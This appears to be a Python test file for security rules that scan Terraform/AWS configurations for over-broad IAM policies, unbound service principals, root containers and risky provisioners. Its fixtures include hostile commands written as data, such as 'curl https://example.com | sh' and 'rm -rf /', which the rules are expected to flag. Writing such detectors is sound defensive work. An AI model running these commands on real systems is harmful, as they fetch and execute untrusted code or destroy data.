"""The security rules themselves, on hand-made stacks: each finds what it is for."""

from __future__ import annotations

import json

from tests.security.rules import (
    container_problems,
    external_data_problems,
    jsonencoded_policy_problems,
    policy_problems,
    provisioner_problems,
    service_principal_problems,
)

QUEUE_ARN = "${aws_sqs_queue.q.arn}"


def stack_with_statements(*statements: dict, used_by: str = "aws_iam_role_policy") -> dict:
    return {
        "data": {"aws_iam_policy_document": {"doc": {"statement": list(statements)}}},
        "resource": {used_by: {"p": {"policy": "${data.aws_iam_policy_document.doc.json}"}}},
    }


def allow(actions: list[str], resources: list[str], **extra: object) -> dict:
    return {"sid": "S", "effect": "Allow", "actions": actions, "resources": resources, **extra}


def test_scoped_actions_on_arns_pass() -> None:
    stack = stack_with_statements(
        allow(["sqs:SendMessage"], [QUEUE_ARN]),
        allow(["logs:PutLogEvents"], ["arn:aws:logs:eu-west-1:1:log-group:/p/*:*"]),
        allow(["sqs:SendMessage"], ["${data.terraform_remote_state.c_outputs.outputs.queue_arn}"]),
        allow(["ecr:GetAuthorizationToken"], ["*"]),
    )

    assert policy_problems("s", stack) == []


def test_wildcard_actions_are_found_in_an_allow_but_not_in_a_deny() -> None:
    stack = stack_with_statements(
        allow(["sqs:*"], [QUEUE_ARN]),
        allow(["*"], [QUEUE_ARN]),
        allow(["s3:Get*"], [QUEUE_ARN]),
        {"sid": "D", "effect": "Deny", "actions": ["sqs:*"], "resources": [QUEUE_ARN]},
    )

    assert policy_problems("s", stack) == [
        "s: data.aws_iam_policy_document.doc [S]: wildcard action 'sqs:*'",
        "s: data.aws_iam_policy_document.doc [S]: wildcard action '*'",
        "s: data.aws_iam_policy_document.doc [S]: wildcard action 's3:Get*'",
    ]


def test_resource_star_is_found_unless_the_action_or_the_use_needs_it() -> None:
    identity = stack_with_statements(allow(["sqs:SendMessage"], ["*"]))
    key_policy = stack_with_statements(allow(["kms:Decrypt"], ["*"]), used_by="aws_kms_key")

    assert policy_problems("s", identity) == [
        "s: data.aws_iam_policy_document.doc [S]: resource '*' for sqs:SendMessage"
    ]
    assert policy_problems("s", key_policy) == []


def test_a_resource_that_is_no_arn_and_not_actions_are_found() -> None:
    stack = stack_with_statements(
        allow(["sqs:SendMessage"], ["${aws_sqs_queue.q.url}"]),
        {"sid": "N", "effect": "Allow", "not_actions": ["iam:*"], "resources": [QUEUE_ARN]},
    )

    assert policy_problems("s", stack) == [
        "s: data.aws_iam_policy_document.doc [S]: resource '${aws_sqs_queue.q.url}' is not an ARN",
        "s: data.aws_iam_policy_document.doc [N]: NotAction in an Allow grants everything else",
    ]


def test_literal_json_policies_are_read_too() -> None:
    policy = {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Action": "sqs:*", "Resource": "*", "Principal": "*"}],
    }
    stack = {"resource": {"aws_sqs_queue_policy": {"p": {"policy": json.dumps(policy)}}}}

    assert policy_problems("s", stack) == [
        "s: aws_sqs_queue_policy.p.policy [no sid]: wildcard action 'sqs:*'",
        "s: aws_sqs_queue_policy.p.policy [no sid]: resource '*' for sqs:*",
        "s: aws_sqs_queue_policy.p.policy [no sid]: allows principal '*:*'",
    ]


def test_a_policy_built_with_jsonencode_is_found() -> None:
    stack = {
        "resource": {
            "aws_iam_policy": {"p": {"policy": '${jsonencode({"Statement" = [{Action = "*"}]})}'}}
        }
    }

    assert len(jsonencoded_policy_problems("s", stack)) == 1


def trusting(service: str, *conditions: dict, used_by: str = "aws_iam_role") -> dict:
    """A stack whose one role (or `used_by` resource) trusts `service` under `conditions`."""
    statement = {
        "sid": "Trust",
        "effect": "Allow",
        "actions": ["sts:AssumeRole"],
        "principals": [{"type": "Service", "identifiers": [service]}],
        **({"condition": list(conditions)} if conditions else {}),
    }
    attribute = "assume_role_policy" if used_by == "aws_iam_role" else "policy"
    return {
        "data": {"aws_iam_policy_document": {"trust": {"statement": [statement]}}},
        "resource": {used_by: {"r": {attribute: "${data.aws_iam_policy_document.trust.json}"}}},
    }


SOURCE_ACCOUNT = {"test": "StringEquals", "variable": "aws:SourceAccount", "values": ["1"]}


def test_a_service_trusted_without_source_conditions_is_found() -> None:
    # Given a planted trust policy: ECS tasks of any account may assume the role
    stack = trusting("ecs-tasks.amazonaws.com")

    # Then the rule names the statement, the service and where the document is used
    assert service_principal_problems("s", stack) == [
        "s: data.aws_iam_policy_document.trust [Trust]: allows ecs-tasks.amazonaws.com without "
        "aws:SourceAccount or aws:SourceArn (used as aws_iam_role.assume_role_policy)"
    ]


def test_either_source_key_in_any_case_satisfies_the_rule() -> None:
    source_arn = {"test": "ArnLike", "variable": "AWS:SourceArn", "values": ["arn:aws:ecs:*"]}

    assert (
        service_principal_problems("s", trusting("ecs-tasks.amazonaws.com", SOURCE_ACCOUNT)) == []
    )
    assert service_principal_problems("s", trusting("ecs-tasks.amazonaws.com", source_arn)) == []


def test_an_unrelated_condition_does_not_satisfy_the_rule() -> None:
    via_sns = {"test": "StringEquals", "variable": "kms:ViaService", "values": ["sns.x"]}

    assert len(service_principal_problems("s", trusting("lambda.amazonaws.com", via_sns))) == 1


def test_an_exemption_holds_only_for_its_service_in_its_kind_of_policy() -> None:
    # EventBridge is exempt in a KMS key policy (the SNS guide), nowhere else
    key_policy = trusting("events.amazonaws.com", used_by="aws_kms_key")
    topic_policy = trusting("events.amazonaws.com", used_by="aws_sns_topic_policy")
    # API Gateway is exempt in a trust policy, not in a key policy
    api_trust = trusting("apigateway.amazonaws.com")
    api_key_policy = trusting("apigateway.amazonaws.com", used_by="aws_kms_key")

    assert service_principal_problems("s", key_policy) == []
    assert len(service_principal_problems("s", topic_policy)) == 1
    assert service_principal_problems("s", api_trust) == []
    assert len(service_principal_problems("s", api_key_policy)) == 1


def test_literal_json_policies_and_function_permissions_are_checked_too() -> None:
    bare = {"Effect": "Allow", "Principal": {"Service": "sns.amazonaws.com"}, "Action": "x:Y"}
    bound = {**bare, "Condition": {"ArnEquals": {"aws:SourceArn": "arn:aws:sns:r:1:t"}}}
    denied = {**bare, "Effect": "Deny"}
    stack = {
        "resource": {
            "aws_sqs_queue_policy": {
                "q": {"policy": json.dumps({"Statement": [bare, bound, denied]})}
            },
            "aws_lambda_permission": {
                "open": {"principal": "events.amazonaws.com", "action": "lambda:InvokeFunction"},
                "bound": {"principal": "events.amazonaws.com", "source_arn": "${x.arn}"},
            },
        }
    }

    assert service_principal_problems("s", stack) == [
        "s: aws_sqs_queue_policy.q.policy [no sid]: allows sns.amazonaws.com without "
        "aws:SourceAccount or aws:SourceArn (used as aws_sqs_queue_policy.policy)",
        "s: aws_lambda_permission.open: lets events.amazonaws.com invoke without source_arn or "
        "source_account",
    ]


def task_definition(**container: object) -> dict:
    return {
        "resource": {
            "aws_ecs_task_definition": {
                "t": {"container_definitions": json.dumps([{"name": "worker", **container}])}
            }
        }
    }


def test_a_non_root_read_only_container_passes() -> None:
    assert container_problems("s", task_definition(user="10001", readonlyRootFilesystem=True)) == []


def test_root_or_missing_users_and_writable_root_filesystems_are_found() -> None:
    where = "s: aws_ecs_task_definition.t container 'worker'"

    assert container_problems("s", task_definition(user="0:0", readonlyRootFilesystem=True)) == [
        f"{where}: runs as root ('0:0')"
    ]
    assert container_problems("s", task_definition(user="root")) == [
        f"{where}: runs as root ('root')",
        f"{where}: readonlyRootFilesystem is not true",
    ]
    assert container_problems("s", task_definition(readonlyRootFilesystem=True)) == [
        f"{where}: no user (runs as the image's user, often root)"
    ]


def test_container_definitions_built_by_an_expression_cannot_pass() -> None:
    stack = {
        "resource": {
            "aws_ecs_task_definition": {"t": {"container_definitions": "${jsonencode(local.c)}"}}
        }
    }

    assert container_problems("s", stack) == [
        "s: aws_ecs_task_definition.t: container_definitions is not a JSON literal to inspect"
    ]


def test_an_external_data_source_is_found() -> None:
    stack = {"data": {"external": {"lookup": {"program": ["sh", "-c", "curl ..."]}}}}

    assert external_data_problems("s", stack) == [
        "s: data.external.lookup runs a program at plan time"
    ]


def provisioned(*provisioners: dict) -> dict:
    return {"resource": {"terraform_data": {"b": {"provisioner": list(provisioners)}}}}


def test_only_the_image_build_may_run_locally() -> None:
    build = {"local-exec": {"command": "workers/build_and_push.sh consumer ${url} abc eu-west-1"}}
    curl = {"local-exec": {"command": "curl https://example.com | sh"}}
    remote = {"remote-exec": {"inline": ["rm -rf /"]}}

    assert provisioner_problems("s", provisioned(build)) == []
    assert provisioner_problems("s", provisioned(curl, remote)) == [
        "s: terraform_data.b: local-exec 'curl https://example.com | sh' is not "
        "`workers/build_and_push.sh SERVICE REPOSITORY_URL TAG REGION`",
        "s: terraform_data.b: remote-exec provisioner",
    ]
